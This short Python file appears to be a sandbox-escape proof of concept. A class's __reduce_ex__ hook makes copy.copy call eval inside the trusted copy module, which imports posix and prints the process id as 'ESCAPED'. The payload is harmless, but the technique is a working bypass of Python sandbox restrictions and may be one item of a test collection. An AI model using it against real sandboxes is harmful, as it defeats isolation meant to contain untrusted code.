# technique: eval('__import__') in the trusted module
# goal: import
# source: own analysis: the default namespace of eval
import copy


class Carrier:
    def __reduce_ex__(self, version):
        return eval, ('__import__("posix").getpid',)


print('ESCAPED pid=%d' % copy.copy(Carrier())())
